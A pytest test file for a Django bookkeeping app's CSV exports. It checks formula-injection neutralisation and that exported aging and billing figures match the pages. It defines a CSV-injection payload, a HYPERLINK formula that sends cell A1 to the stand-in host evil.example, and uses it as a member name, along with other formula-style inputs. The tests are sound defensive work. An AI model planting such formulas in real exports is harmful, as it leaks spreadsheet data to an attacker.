"""CSV exports: safe in a spreadsheet, and the same figures as the pages."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from memberbooks.ledger.aging import aging
from memberbooks.web.csv_export import cell, csv_lines, neutralise
from tests.books import Books
from tests.web.conftest import Ledger, body

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+1-555-0100", "'+1-555-0100"),
        ("-2+3", "'-2+3"),
        ("-25.00", "'-25.00"),  # text that looks like a number is still text: neutralised
        ("@cmd", "'@cmd"),
        ("\tleading tab", "'\tleading tab"),
        ("\rcarriage return", "'\rcarriage return"),
        ("Smith", "Smith"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str, expected: str) -> None:
    assert neutralise(text) == expected
    assert cell(text) == expected


def test_amounts_and_dates_we_computed_stay_plain() -> None:
    assert cell(Decimal("-25.00")) == "-25.00"
    assert cell(Decimal("1234.5")) == "1234.50"
    assert cell(-3) == "-3"
    assert cell(dt.date(2026, 6, 30)) == "2026-06-30"
    assert cell(None) == ""
    assert cell(True) == "yes"


def test_csv_lines_quote_and_neutralise_each_cell() -> None:
    text = "".join(csv_lines(["name", "net"], [[HYPERLINK, Decimal("-5.00")]]))
    assert list(csv.reader(io.StringIO(text))) == [["name", "net"], ["'" + HYPERLINK, "-5.00"]]


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # so Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_aging_csv_matches_the_report(bookkeeper: Client, ledger: Ledger) -> None:
    response = bookkeeper.get(
        reverse("aging-csv", args=[ledger.books.org.slug]), {"as_of": "2026-06-30"}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="aging-acme-2026-06-30.csv"' in response["Content-Disposition"]
    rows = read_csv(body(response))
    report = aging(ledger.books.org, dt.date(2026, 6, 30)).as_json()
    expected = [
        {
            "member_number": m["member_number"],
            "name": m["name"],
            **{b: m[b] for b in ("current", "1-30", "31-60", "61-90", "over-90")},
            "total": m["total"],
            "unapplied_credit": m["unapplied_credit"],
            "net": m["net"],
        }
        for m in report["members"]  # type: ignore[union-attr]
    ]
    assert rows[:-1] == expected
    assert rows[-1] == {
        "member_number": "",
        "name": "Total",
        "current": "120.00",
        "1-30": "0.00",
        "31-60": "80.00",
        "61-90": "0.00",
        "over-90": "250.00",
        "total": "450.00",
        "unapplied_credit": "15.00",
        "net": "435.00",
    }
    assert rows[-1]["total"] == report["total"]


def test_aging_page_shows_the_same_figures(viewer: Client, ledger: Ledger) -> None:
    page = viewer.get(
        reverse("aging", args=[ledger.books.org.slug]), {"as_of": "2026-06-30"}
    ).content.decode()
    assert 'data-figure="total">450.00<' in page
    assert 'data-figure="credit">15.00<' in page
    assert 'data-figure="net">435.00<' in page
    assert 'data-bucket="over-90">250.00<' in page


def test_a_member_named_like_a_formula_is_neutralised(bookkeeper: Client, books: Books) -> None:
    evil = books.member(HYPERLINK, "")
    books.invoice(evil, "10.00", "2026-06-01", due="2026-06-30")
    credit = books.member("-Negative", "Nora")
    books.pay(credit, "25.00", "2026-06-01")
    slug = books.org.slug
    aging_rows = read_csv(
        body(bookkeeper.get(reverse("aging-csv", args=[slug]), {"as_of": "2026-06-30"}))
    )
    by_number = {row["member_number"]: row for row in aging_rows}
    assert by_number[evil.member_number]["name"] == "'" + HYPERLINK
    assert by_number[credit.member_number]["net"] == "-25.00"  # our own amount stays a number
    members = read_csv(body(bookkeeper.get(reverse("members-csv", args=[slug]))))
    assert {row["last_name"] for row in members} == {"'" + HYPERLINK, "'-Negative"}
    page = bookkeeper.get(reverse("aging", args=[slug]), {"as_of": "2026-06-30"}).content.decode()
    assert escape(HYPERLINK) in page  # on the page the name is plain, escaped text


def test_billing_csv_follows_the_filter(bookkeeper: Client, ledger: Ledger) -> None:
    slug = ledger.books.org.slug
    rows = read_csv(
        body(
            bookkeeper.get(
                reverse("billing-csv", args=[slug]), {"tab": "invoices", "status": "open"}
            )
        )
    )
    assert [(row["number"], row["open"], row["status"]) for row in rows] == [
        (ledger.ann_dues.number, "120.00", "Open"),
        (ledger.ann_event.number, "80.00", "Open"),
        (ledger.bob_dues.number, "250.00", "Partly paid"),  # open means something is left
    ]
    payments = read_csv(
        body(bookkeeper.get(reverse("billing-csv", args=[slug]), {"tab": "payments"}))
    )
    assert [(row["number"], row["amount"], row["unapplied"]) for row in payments] == [
        (ledger.bob_payment.number, "50.00", "0.00")
    ]


def test_member_statement_csv(bookkeeper: Client, ledger: Ledger) -> None:
    response = bookkeeper.get(
        reverse("member-statement-csv", args=[ledger.books.org.slug, ledger.ann.pk])
    )
    rows = read_csv(body(response))
    assert [(r["document"], r["charge"], r["credit"], r["balance"]) for r in rows] == [
        ("Invoice", "80.00", "0.00", "80.00"),
        ("Invoice", "120.00", "0.00", "200.00"),
        ("Credit memo", "0.00", "15.00", "185.00"),
    ]
